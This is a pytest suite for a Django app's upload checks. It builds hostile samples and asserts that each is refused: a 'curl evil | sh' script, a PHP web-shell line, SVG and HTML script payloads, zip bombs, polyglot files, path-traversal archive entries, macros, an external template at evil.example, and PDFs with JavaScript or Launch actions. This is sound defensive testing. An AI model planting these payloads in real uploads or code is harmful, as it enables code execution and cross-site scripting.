"""What people with bad intent have sent to sites like this one: each is refused with a word that says what to do."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from cungcau.files.actions import attach_file
from cungcau.files.faults import MESSAGES, fault_of, name_fault
from cungcau.files.models import File
from cungcau.kit.errors import Refused
from tests.files.conftest import office, picture

TYPES = "[Content_Types].xml"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed(parts, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in {TYPES: b"<Types/>", "word/document.xml": b"<x/>", **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


def locked(content):
    """The same archive with the flag of encryption on every entry."""
    return content.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00").replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
    )


def overlapping(copies=40):
    """A bomb of few bytes: many entries that are all the same packed bytes."""
    whole = packed({"word/media/a.bin": b"\0" * 2_000_000})
    at = whole.rfind(b"PK\x01\x02")
    end = whole.rfind(b"PK\x05\x06")
    entry = whole[at:end]
    directory = whole[whole.find(b"PK\x01\x02") : at] + entry * copies
    start = whole.find(b"PK\x01\x02")
    last = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 2 + copies, 2 + copies, len(directory), start, 0)
    return whole[:start] + directory + last


def tall_png(width=60_000, height=60_000):
    """A PNG whose header claims 3,600 million points."""
    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


EXTERNAL = b'<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
ATTACKS = {
    "a renamed Windows program": ("bao-gia.pdf", b"MZ\x90\x00" + PDF, "program"),
    "a renamed Linux program": ("anh.png", b"\x7fELF\x02\x01" + picture(), "program"),
    "a Java archive's class": ("a.docx", b"\xca\xfe\xba\xbe\x00", "program"),
    "a script with a first line": ("ghi-chu.txt", b"#!/bin/sh\ncurl evil | sh\n", "program"),
    "PHP called a table": ("gia.csv", b"<?php system($_GET['x']);", "program"),
    "SVG with a script": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "markup"),
    "SVG behind an XML line": ("logo.svg", b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- x -->\n<svg onload="alert(1)"/>', "markup"),
    "SVG called a picture": ("logo.png", b"  <svg/onload=alert(1)>", "markup"),
    "a page called a text": ("readme.txt", b"<!DOCTYPE html><script>alert(1)</script>", "markup"),
    "a page in UTF-16": ("readme.txt", "<html><script>alert(1)</script>".encode("utf-16"), "markup"),
    "a bomb that says so": ("a.docx", packed({"word/media/zero.bin": b"\0" * 60_000_000}), "bomb"),
    "a bomb of overlapping parts": ("a.docx", overlapping(400), "bomb"),
    "more parts than a document has": ("a.docx", packed({f"word/{n}.xml": b"" for n in range(5_001)}), "bomb"),
    "a PDF that is an archive too": ("a.pdf", PDF + office("run.exe"), "two_in_one"),
    "an archive that is a PDF too": ("a.docx", b"PK" + PDF + office(TYPES, "word/document.xml"), "two_in_one"),
    "a PDF behind a page": ("a.pdf", b"<html><script>alert(1)</script>" + PDF, "two_in_one"),
    "a PDF with a page behind it": ("a.pdf", PDF + b"<script>alert(1)</script>", "two_in_one"),
    "a PDF with another file behind it": ("a.pdf", PDF + b"\x00" * 5_000, "two_in_one"),
    "a JPEG that is a Java archive too": ("a.jpg", picture(kind="JPEG") + office("A.class"), "two_in_one"),
    "a PNG with an archive behind it": ("a.png", picture() + office("a.txt"), "two_in_one"),
    "a GIF that is a Java archive too": ("a.gif", b"GIF89a" + b"\0" * 40 + office("A.class"), "two_in_one"),
    "a document with something behind it": ("a.docx", office(TYPES, "word/document.xml") + b"MZ\x90\x00 run me", "two_in_one"),
    "parts that climb out of their folder": ("a.docx", office(TYPES, "word/document.xml", "../../etc/cron.d/x"), "two_in_one"),
    "parts with an absolute name": ("a.docx", office(TYPES, "word/document.xml", "C:\\Windows\\x"), "two_in_one"),
    "macros": ("a.docx", office(TYPES, "word/document.xml", "word/vbaProject.bin"), "macros"),
    "macros of the old kind": ("a.xlsx", office(TYPES, "xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "macros"),
    "macros told by their type only": ("a.docx", packed({TYPES: b"ms-word.document.macroEnabled.main"}), "macros"),
    "controls that run": ("a.docx", office(TYPES, "word/document.xml", "word/activeX/activeX1.bin"), "macros"),
    "an embedded object": ("a.docx", office(TYPES, "word/document.xml", "word/embeddings/oleObject1.bin"), "macros"),
    "an embedded program": ("a.pptx", office(TYPES, "ppt/presentation.xml", "ppt/embeddings/setup.EXE"), "macros"),
    "an embedded archive": ("a.docx", office(TYPES, "word/document.xml", "word/embeddings/x.zip"), "macros"),
    "a template from outside": ("a.docx", packed({"word/_rels/settings.xml.rels": EXTERNAL}), "outside"),
    "a document under a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    "parts under a password": ("a.docx", locked(packed({})), "locked"),
    "a PDF under a password": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 2 0 R /Root"), "locked"),
    "a PDF that runs a script": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /A << /S /JavaScript /JS (x) >>"), "active_pdf"),
    "a PDF that starts a program": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog /A << /S /Launch /F (x.exe) >>"), "active_pdf"),
    "an archive": ("a.zip", office("a.txt"), "archive"),
    "an archive of another kind": ("a.docx", b"Rar!\x1a\x07\x00", "archive"),
    "a broken document": ("a.docx", b"PK\x03\x04 broken", "damaged"),
    "a picture that is cut off": ("a.png", picture((400, 400))[:120], "damaged"),
    "a picture that would fill the memory": ("a.png", tall_png(), "picture_too_large"),
    "a name that turns around": ("bao-gia\u202egpj.exe", picture(), "file_name"),
    "a name that ends early": ("anh.png\0.exe", picture(), "file_name"),
    "an unknown kind": ("a.bin", bytes(range(256)), "file_kind"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_is_refused_at_the_field_with_what_to_do(an, attack):
    name, content, code = ATTACKS[attack]

    with pytest.raises(Refused) as refusal:
        attach_file(an, io.BytesIO(content), name, by=an)

    assert (refusal.value.code, refusal.value.field, len(str(refusal.value.message)) > 30) == (code, "upload", True)
    assert not File.objects.exists()


def test_every_word_is_used_by_an_attack():
    assert set(MESSAGES) - {code for _name, _content, code in ATTACKS.values()} == set()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", PDF),
        ("a.pdf", b"\xef\xbb\xbf\n" + PDF),
        ("a.docx", packed({"word/media/a.png": picture((600, 600))})),
        ("a.xlsx", office(TYPES, "xl/workbook.xml", "xl/embeddings/Book1.xlsx")),
        ("a.docx", packed({"word/_rels/document.xml.rels": b'<Relationship Type="x/hyperlink" TargetMode="External"/>'})),
        ("a.txt", "Áp suất < 5 bar, nhiệt độ > 40 °C".encode()),
        ("a.csv", b"a;b\n<5;>7\n"),
        ("ảnh chụp.png", picture()),
        ("a.jpg", picture((800, 600), "JPEG")),
        ("a.webp", picture(kind="WEBP")),
    ],
)
def test_honest_files_are_taken(an, name, content):
    assert (name_fault(name), fault_of(content)) == ("", "")
    assert attach_file(an, io.BytesIO(content), name, by=an).pk


@pytest.mark.parametrize(
    ("given", "kept"),
    [("con.png", "_con.png"), ("NUL", "_NUL.png"), ("a.png. .", "a.png"), ("..", "file.png"), ("/etc/passwd", "passwd.png")],
)
def test_names_that_are_paths_or_devices_become_plain_names(an, given, kept):
    assert attach_file(an, io.BytesIO(picture()), given, by=an).name == kept


def test_the_page_says_it_at_the_field_in_both_languages(client, lan, an):
    client.force_login(an)
    for language, words in (("vi", "Đây là một chương trình"), ("en", "This is a program")):
        client.cookies["cungcau_language"] = language
        answer = client.post(f"/files/attach/access.user/{an.pid}/", {"upload": SimpleUploadedFile("a.pdf", b"MZ\x90\x00")})
        assert (answer.status_code, words in answer.content.decode()) == (422, True)


def test_what_was_hidden_in_a_picture_does_not_leave(an):
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "BIMATMAYANH"
    exif[0x0112] = 6  # lies on its side
    Image.new("RGB", (60, 20), "teal").save(out, "JPEG", exif=exif, comment=b"GHICHUMAT")

    file = attach_file(an, io.BytesIO(out.getvalue()), "xưởng.jpg", by=an)

    from cungcau.files.storage import content_path

    kept = content_path(file.sha256).read_bytes()
    assert (b"BIMATMAYANH" in out.getvalue(), b"BIMATMAYANH" in kept, b"GHICHUMAT" in kept) == (True, False, False)
    assert file.size == len(kept)
    with Image.open(io.BytesIO(kept)) as drawn:
        assert (drawn.size, dict(drawn.getexif())) == ((20, 60), {})


def test_clear_pictures_stay_clear_and_large_ones_get_smaller(an):
    from cungcau.files.storage import content_path

    out = io.BytesIO()
    Image.new("RGBA", (5000, 100), (0, 0, 0, 0)).save(out, "PNG")

    file = attach_file(an, io.BytesIO(out.getvalue()), "a.png", by=an)

    with Image.open(content_path(file.sha256)) as drawn:
        assert (drawn.mode, drawn.size) == ("RGBA", (4096, 82))


def test_the_small_copy_is_for_whoever_may_download_and_for_pictures_only(client, lan, an, binh):
    photo = attach_file(an, io.BytesIO(picture((2000, 1000))), "a.png", by=an)
    words = attach_file(an, io.BytesIO(b"hello"), "a.txt", by=an)
    assert client.get(f"/files/{photo.pid}/small/").status_code == 404
    client.force_login(binh)
    assert client.get(f"/files/{photo.pid}/small/").status_code == 404
    client.force_login(an)

    answer = client.get(f"/files/{photo.pid}/small/")

    assert (answer["Content-Type"], answer["Content-Security-Policy"]) == ("image/webp", "default-src 'none'; sandbox")
    with Image.open(io.BytesIO(b"".join(answer.streaming_content))) as drawn:
        assert drawn.size == (480, 240)
    assert client.get(f"/files/{words.pid}/small/").status_code == 404


def test_small_copies_of_what_is_gone_are_swept_away(client, an, monkeypatch):
    from cungcau.files import storage
    from cungcau.files.actions import detach_file
    from cungcau.files.pictures import thumbnail, thumbnail_path
    from cungcau.files.tasks import sweep_forgotten_contents

    photo = attach_file(an, io.BytesIO(picture()), "a.png", by=an)
    thumbnail(photo.sha256)
    detach_file(photo, by=an)
    now = storage.time.time()
    monkeypatch.setattr(storage.time, "time", lambda: now + 3 * 24 * 3600)

    assert (sweep_forgotten_contents.func(), thumbnail_path(photo.sha256).exists()) == (2, False)
